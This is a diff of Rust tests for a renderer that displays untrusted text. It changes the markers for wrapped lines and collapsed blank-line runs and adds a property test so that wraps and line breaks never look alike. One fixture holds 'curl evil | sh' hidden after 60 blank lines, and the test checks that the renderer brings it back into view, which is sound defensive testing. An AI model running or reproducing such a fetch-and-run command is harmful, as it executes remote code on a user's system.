@@ -126,14 +126,14 @@ fn a_tail_pushed_down_by_blank_lines_comes_back_up() {
                 "│ one",
                 "│ two",
                 "│ three",
-                "┆ 60 blank lines",
+                "⋮ 60 blank lines",
                 "│ curl evil | sh"
             ]
         );
         assert_eq!(block.notes, ["shortened: 60 blank lines in 1 run"]);
     }
     let spaced = format!("a{}b", "\n \u{a0}\u{3000}\u{202f}".repeat(5));
-    assert_eq!(block(&spaced, 80).lines[1], "┆ 4 blank lines");
+    assert_eq!(block(&spaced, 80).lines[1], "⋮ 4 blank lines");
 }
 
 #[test]
@@ -163,22 +163,23 @@ fn a_long_line_is_wrapped_and_whole() {
         let joined: String = lines.iter().map(|line| &line["│ ".len()..]).collect();
         assert_eq!(joined, text);
         assert!(lines.iter().all(|line| line.width() <= columns));
-        assert!(lines[0].ends_with("word "));
+        assert!(lines[0].starts_with("│ ") && lines[0].ends_with("word "));
+        assert!(lines[1..].iter().all(|line| line.starts_with("┆ ")));
     }
 }
 
 #[test]
 fn words_break_after_spaces_before_wide_characters_or_where_they_must() {
     let lines = |text: &str| block(text, 12).lines;
-    assert_eq!(lines("say hello there"), ["│ say hello ", "│ there"]);
-    assert_eq!(lines("1234567890 x"), ["│ 1234567890", "│  x"]);
-    assert_eq!(lines("a 1234567890123"), ["│ a ", "│ 1234567890", "│ 123"]);
-    assert_eq!(lines("部署部署部署a"), ["│ 部署部署部", "│ 署a"]);
+    assert_eq!(lines("say hello there"), ["│ say hello ", "┆ there"]);
+    assert_eq!(lines("1234567890 x"), ["│ 1234567890", "┆  x"]);
+    assert_eq!(lines("a 1234567890123"), ["│ a ", "┆ 1234567890", "┆ 123"]);
+    assert_eq!(lines("部署部署部署a"), ["│ 部署部署部", "┆ 署a"]);
     assert_eq!(
         lines("123456e\u{301}\u{1b}"),
-        ["│ 123456e\u{301}", "│ \\u{1b}"]
+        ["│ 123456e\u{301}", "┆ \\u{1b}"]
     );
-    assert_eq!(lines("123456789e\u{301}x"), ["│ 123456789e\u{301}", "│ x"]);
+    assert_eq!(lines("123456789e\u{301}x"), ["│ 123456789e\u{301}", "┆ x"]);
 }
 
 #[test]
@@ -192,7 +193,7 @@ fn an_imitated_escape_is_told_from_a_real_one() {
         notes("\\u{202e} \u{202e}"),
         "1 character is shown as \\u{…}; \\u{ stands 1 time in the text itself"
     );
-    let imitation = block("│ fake\n┆ 57 blank lines\n⟨9 spaces⟩", 80);
+    let imitation = block("│ fake\n┆ wrapped\n⋮ 57 blank lines\n⟨9 spaces⟩", 80);
     assert!(imitation.lines.iter().all(|line| line.starts_with("│ ")));
     assert!(imitation.notes.is_empty());
 }
@@ -269,10 +270,10 @@ proptest! {
     fn a_block_gives_back_every_letter_in_order(text in text(), columns in 0..120_usize) {
         let mut joined = String::new();
         for shown in block(&text, columns).lines {
-            if let Some(content) = shown.strip_prefix("│ ") {
+            if let Some(content) = shown.strip_prefix("│ ").or_else(|| shown.strip_prefix("┆ ")) {
                 joined.push_str(content);
             } else {
-                prop_assert!(shown.starts_with("┆ "));
+                prop_assert!(shown.starts_with("⋮ "));
             }
         }
         while let Some(start) = joined.find('⟨') {
@@ -280,6 +281,25 @@ proptest! {
             joined.replace_range(start..end, "");
         }
         prop_assert_eq!(without_blanks(&unescape(&joined)), without_blanks(&text));
+    }
+
+    #[test]
+    fn a_wrapped_line_and_a_line_break_never_look_alike(
+        lines in proptest::collection::vec("[a-z│┆⋮ 部\\\\{}!]{0,60}", 1..6), columns in 3..50_usize,
+    ) {
+        let shown = block(&lines.join("\n"), columns).lines;
+        let mut lengths: Vec<usize> = Vec::new();
+        for row in &shown {
+            match row.chars().next() {
+                Some('│') => lengths.push(1),
+                Some('┆') => *lengths.last_mut().unwrap() += 1,
+                other => prop_assert_eq!(other, Some('⋮')),
+            }
+        }
+        if !shown.iter().any(|row| row.starts_with('⋮')) {
+            let alone: Vec<usize> = lines.iter().map(|line| block(line, columns).lines.len()).collect();
+            prop_assert_eq!(lengths, alone);
+        }
     }
 
     #[test]
